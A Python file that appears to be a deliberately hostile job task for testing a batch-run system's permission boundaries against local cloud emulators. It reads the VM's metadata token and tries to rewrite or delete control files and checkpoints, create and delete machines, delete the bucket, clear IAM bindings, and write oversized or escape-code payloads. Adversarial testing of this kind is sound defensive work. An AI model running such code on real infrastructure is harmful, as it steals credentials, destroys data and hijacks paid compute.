"""The task of somebody who wants the VM's rights: in its second batch it turns on everything that they reach.

It is the user's own file, pinned and run like any other. On the laptop, where a launch only reads rows and makes
prompts, it does nothing; in the container it asks for the VM's token and writes down what came of every try.
"""

import json
import os
import urllib.error
import urllib.parse
import urllib.request
from typing import ClassVar

from job.tasks import read_jsonl

GREED = {"gpu": "b200", "machine_type": "a4-highgpu-8g", "zones": ["us-east4-b"], "max_usd": 1e9, "spot": False}
BIG = b"[" * (3 << 20)
REPORT = "blobs/hostile.json"
BATCH = 32
_batches = []


class Nonsense:
    """As the stories' own task, but for what its scoring does beside. Leaves a head that is none."""

    weights: ClassVar = {"letters": 1.0}
    head: ClassVar = {"machine": GREED, "attempt": "\x1b[2J", "checkpoint": [GREED] * 1000}

    def read(self, path):
        return read_jsonl(path, required=["question"])

    def prompt(self, row):
        return [{"role": "user", "content": row["question"]}]

    def score(self, completions, rows):
        if len(completions) == BATCH and "BATON_ATTEMPT" in os.environ:
            _batches.append(len(completions))
            if len(_batches) == 2:  # some checkpoints are there
                attack(self.head)
        return {"letters": [len(set(text)) / 10 for text in completions]}


class Far(Nonsense):
    """Leaves a head that no later attempt may take over."""

    head: ClassVar = {"attempt": 10**9, "incarnation": 0, "status": "running", "write_id": "x"}


def attack(head):
    """All of it, head last: from then on the attempt knows that something is wrong."""
    run, attempt = os.environ["BATON_RUN"], int(os.environ["BATON_ATTEMPT"])
    bucket, _, prefix = run.removeprefix("gs://").partition("/")
    vm = Vm(bucket)
    report = {"control": on_control(vm, prefix), "compute": on_compute(vm), "local": on_the_local_cloud(vm)}
    report["own"] = on_what_it_may_write(vm, prefix, attempt)
    vm.write(f"{prefix}/{REPORT}", json.dumps(report).encode())
    vm.write(f"{prefix}/head.json", json.dumps(head).encode())


class Vm:
    """What a VM has: a token, and the addresses of the servers."""

    def __init__(self, bucket):
        self.bucket = bucket
        self.storage = os.environ["STORAGE_EMULATOR_HOST"]
        self.compute = os.environ["CLOUDSDK_API_ENDPOINT_OVERRIDES_COMPUTE"]
        self.token = ""
        self.token = json.loads(self.metadata("instance/service-accounts/default/token"))["access_token"]
        self.zone = self.metadata("instance/zone").rpartition("/")[2]
        self.name, self.project = self.metadata("instance/name"), self.metadata("project/project-id")

    def metadata(self, path):
        url = f"http://{os.environ['GCE_METADATA_HOST']}/computeMetadata/v1/{path}"
        status, body = self.ask("GET", url, headers={"Metadata-Flavor": "Google"})
        assert status == 200, path
        return body.decode()

    def ask(self, method, url, body=None, headers=None, *, token=True):
        """(status, body); 0 where the connection ended without an answer."""
        headers = dict(headers or {})
        if token and self.token:
            headers["Authorization"] = f"Bearer {self.token}"
        request = urllib.request.Request(url, data=body, method=method, headers=headers)
        try:
            with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=20) as reply:
                return reply.status, reply.read()
        except urllib.error.HTTPError as error:
            return error.code, error.read()
        except OSError:
            return 0, b""

    def write(self, name, data, *, token=True):
        query = urllib.parse.urlencode({"uploadType": "media", "name": name})
        url = f"{self.storage}/upload/storage/v1/b/{self.bucket}/o?{query}"
        return self.ask("POST", url, data, {"Content-Type": "application/json"}, token=token)[0]

    def object(self, name):
        return f"{self.storage}/storage/v1/b/{self.bucket}/o/{urllib.parse.quote(name, safe='')}"

    def as_json(self, method, url, body, *, token=True):
        return self.ask(method, url, json.dumps(body).encode(), {"Content-Type": "application/json"}, token=token)[0]


def on_control(vm, prefix):
    """Everything that would change what is wanted. All of it has to be refused."""
    found = {}
    claims, spec = f"{prefix}/control/claims.json", f"{prefix}/control/spec/0001.json"
    data = vm.ask("GET", f"{vm.object(claims)}?alt=media")[1]
    wanted = json.loads(data or b"{}")
    wanted["attempts"] = [*wanted.get("attempts", []), {"number": 99, "kind": "vm", "claimed_at_s": 0.0, **GREED}]
    revision = {**json.loads(vm.ask("GET", f"{vm.object(spec)}?alt=media")[1]), "revision": 2}
    revision["machine"] = {**revision["machine"], **GREED, "image": "evil/image:latest"}
    targets = {
        claims: wanted,
        f"{prefix}/control/spec/0002.json": revision,
        f"{prefix}/control/looked.json": {"watcher": "nobody"},
        f"{prefix}/control/": {},
        "runs/another/control/claims.json": wanted,
    }
    seed = f"{prefix}/blobs/seed"
    vm.write(seed, json.dumps(wanted).encode())
    for name, body in targets.items():
        data, path = json.dumps(body).encode(), urllib.parse.quote(name, safe="")
        query = urllib.parse.urlencode({"uploadType": "resumable", "name": name})
        plain = f"{vm.storage}/{vm.bucket}/{urllib.parse.quote(name)}"
        found[f"upload {name}"] = vm.write(name, data)
        found[f"nobody's upload {name}"] = vm.write(name, data, token=False)
        found[f"resumable {name}"] = vm.as_json(
            "POST", f"{vm.storage}/upload/storage/v1/b/{vm.bucket}/o?{query}", {"name": name}
        )
        found[f"put {name}"] = vm.ask("PUT", plain, data)[0]
        found[f"parts {name}"] = vm.ask("POST", f"{plain}?uploads", b"")[0]
        found[f"compose {name}"] = vm.as_json(
            "POST", f"{vm.object(name)}/compose", {"sourceObjects": [{"name": seed}], "destination": {}}
        )
        for how in ("rewriteTo", "copyTo"):
            found[f"{how} {name}"] = vm.as_json("POST", f"{vm.object(seed)}/{how}/b/{vm.bucket}/o/{path}", {})
        found[f"moveTo {name}"] = vm.as_json("POST", f"{vm.object(seed)}/moveTo/o/{path}", {})
    for name in (claims, spec):
        found[f"patch {name}"] = vm.as_json("PATCH", vm.object(name), {"metadata": {"x": "y"}})
        found[f"delete {name}"] = vm.ask("DELETE", vm.object(name))[0]
        found[f"away {name}"] = vm.as_json("POST", f"{vm.object(name)}/moveTo/o/{prefix.replace('/', '%2F')}%2Fx", {})
    another = f"{vm.storage}/storage/v1/b/another-bucket/o"
    found["another bucket"] = vm.ask(
        "POST", another.replace("/storage/v1", "/upload/storage/v1") + "?name=runs/x/y", b"x"
    )[0]
    found["objects of another bucket"] = vm.ask("GET", f"{another}?prefix=runs/")[0]
    bucket = f"{vm.storage}/storage/v1/b/{vm.bucket}"
    found["delete bucket"] = vm.ask("DELETE", bucket)[0]
    found["patch bucket"] = vm.as_json("PATCH", bucket, {"lifecycle": {"rule": []}})
    found["iam"] = vm.as_json("PUT", f"{bucket}/iam", {"bindings": []})
    return found


def on_compute(vm):
    """Everything that would make or end a machine, with the token and without."""
    found = {}
    zone = f"{vm.compute.rstrip('/')}/projects/{vm.project}/zones/{vm.zone}"
    machine = {
        "name": "mine",
        "machineType": f"zones/{vm.zone}/machineTypes/e2-small",
        "disks": [{"boot": True, "initializeParams": {"sourceImage": "projects/debian-cloud/global/images/debian"}}],
        "networkInterfaces": [{"network": "global/networks/default"}],
    }
    for token in (True, False):
        who = "token" if token else "nobody"
        found[f"{who} insert"] = vm.as_json("POST", f"{zone}/instances", machine, token=token)
        found[f"{who} list"] = vm.ask("GET", f"{zone}/instances", token=token)[0]
        found[f"{who} delete"] = vm.ask("DELETE", f"{zone}/instances/{vm.name}", token=token)[0]
        found[f"{who} stop"] = vm.ask("POST", f"{zone}/instances/{vm.name}/stop", b"", token=token)[0]
    return found


def on_the_local_cloud(vm):
    """Its levers, which no real cloud has, and the laptop's own rights."""
    root = vm.compute.partition("/compute/")[0]
    laptop = f"{root}/computeMetadata/v1/instance/service-accounts/default/token"
    return {
        "watchdog's log": vm.write("watchdog/console/000001.log", b"x"),
        "preempt": vm.as_json("POST", f"{root}/_control", {"do": "preempt", "vm": vm.name, "notice_s": 0}),
        "shutdown": vm.as_json("POST", f"{root}/_control", {"do": "shutdown"}),
        "laptop's token": vm.ask("GET", laptop, headers={"Metadata-Flavor": "Google"})[0],
        "storage faults": vm.as_json("POST", f"{vm.storage}/_faults", {"kind": "503", "object": "*"}),
    }


def on_what_it_may_write(vm, prefix, attempt):
    """Nonsense over everything else: heartbeats, ends of attempts that are to come, result; no checkpoint is left."""
    found = {}
    end = {"exit_code": 75, "reason": "exit", "detail": "\x1b[2J" + "x" * 5000, "at_s": 9e99}
    for number in range(attempt, attempt + 3):
        folder = f"{prefix}/attempts/{number:04d}"
        found[f"heartbeat {number}"] = vm.write(f"{folder}/heartbeat.json", BIG)
        found[f"attempt {number}"] = vm.write(f"{folder}/attempt.json", json.dumps(GREED).encode())
        found[f"console {number}"] = vm.write(f"{folder}/console/999999.log", BIG)
        if number > attempt:
            found[f"exit {number}"] = vm.write(f"{folder}/exit.json", json.dumps(end).encode())
    found["result"] = vm.write(f"{prefix}/result/MANIFEST.json", BIG)
    listing = f"{vm.storage}/storage/v1/b/{vm.bucket}/o?prefix={urllib.parse.quote(prefix)}/checkpoints/"
    names = [item["name"] for item in json.loads(vm.ask("GET", listing)[1]).get("items", [])]
    found["checkpoints"] = [vm.ask("DELETE", vm.object(name))[0] for name in names]
    return found
